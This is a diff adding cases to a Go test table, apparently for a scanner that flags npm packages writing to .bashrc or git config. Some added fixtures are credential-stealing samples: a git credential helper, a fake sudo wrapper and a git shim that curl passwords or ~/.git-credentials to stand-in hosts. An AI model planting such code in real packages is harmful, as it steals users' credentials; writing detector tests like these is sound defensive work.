@@ -36,6 +36,23 @@ rl.question("ok? ", () => fs.appendFileSync(require("os").homedir() + "/.bashrc"
 		{"bashrc_written_on_load_by_command", map[string]string{"package.json": rt.Pkg(`"bin":{"dots":"bin/dots.js"},"main":"lib/dots.js"`),
 			"bin/dots.js": `const d = require("../lib/dots"); const [cmd] = process.argv.slice(2); if (cmd === "hook") d.hook()`,
 			"lib/dots.js": `const fs = require("fs"), path = require("path"); fs.appendFileSync(path.join(require("os").homedir(), ".bashrc"), "\ndots status\n"); exports.hook = () => 1`}, finding.SeverityHigh},
+		// a credential helper that posts what git hands it, set through a
+		// helper that runs git
+		{"git_credential_helper_curl", map[string]string{"lib/git.js": `const { execFileSync } = require("child_process");
+const HELPER = ["!f() {", " curl -s -X POST --data-binary @- https://hooks.example.invalid/c >/dev/null 2>&1;", " }; f"].join("");
+function git(args) { return execFileSync("git", args, { encoding: "utf8" }).trim() }
+exports.setup = () => git(["config", "--global", "--add", "credential.helper", HELPER])`}, finding.SeverityCritical},
+		{"git_credential_helper_store", map[string]string{"lib/git.js": `const { execFileSync } = require("child_process");
+exports.setup = () => execFileSync("git", ["config", "--global", "credential.helper", "store"])`}, finding.SeverityNone},
+		// a fake sudo prompt planted in the shell's startup file
+		{"bashrc_sudo_wrapper", map[string]string{"index.js": `const fs = require("fs"), path = require("path");
+const SNIPPET = ["sudo() {", "  read -rs pw; curl -s -d \"p=$pw\" https://c.example.invalid/p >/dev/null 2>&1 &", "  command sudo \"$@\"", "}"].join("\n");
+fs.appendFileSync(path.join(require("os").homedir(), ".bashrc"), SNIPPET)`}, finding.SeverityCritical},
+		// a git wrapper written first in PATH that posts the stored credentials
+		{"git_shim_script", map[string]string{"index.js": "const fs = require(\"fs\"); const src = (dir) => `#!/bin/sh\nSELF=\"${dir}\"\ncase \"$1\" in push|fetch) cat \"$HOME/.git-credentials\" | curl -s --data-binary @- https://c.example.invalid/r ;; esac\nexec /usr/bin/git \"$@\"\n`;\nfs.writeFileSync(require(\"path\").join(bin, \"git\"), src(bin), { mode: 0o755 })"}, finding.SeverityCritical},
+		{"launcher_script", map[string]string{"index.js": "const fs = require(\"fs\"); fs.writeFileSync(\"bin/run\", \"#!/bin/sh\\nexec node \\\"$(dirname \\\"$0\\\")/../cli.js\\\" \\\"$@\\\"\\n\", { mode: 0o755 })"}, finding.SeverityNone},
+		// the usual alias that lets aliases expand after sudo
+		{"bashrc_sudo_alias", map[string]string{"index.js": `const fs = require("fs"), path = require("path"); fs.appendFileSync(path.join(require("os").homedir(), ".bashrc"), "alias sudo='sudo '\n")`}, finding.SeverityHigh},
 		{"bashrc_alias_in_main", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "index.js": "const fs = require(\"fs\"), path = require(\"path\"); if (process.argv.slice(2).includes(\"--install\")) { const rc = path.join(require(\"os\").homedir(), \".zshrc\"); fs.writeFileSync(rc, fs.readFileSync(rc, \"utf8\") + \"\\nalias idgen='npx idgen'\\n\") }"}, finding.SeverityHigh},
 		{"bashrc_loaded_unasked", map[string]string{"cli.js": `const rl = require("readline"); require("./lib/other")`, "lib/other.js": `module.exports = 1`,
 			"lib/rc.js": `exports.add = () => require("fs").appendFileSync(require("os").homedir() + "/.bashrc", "\neval \"$(dirnav init bash)\"\n")`}, finding.SeverityHigh},
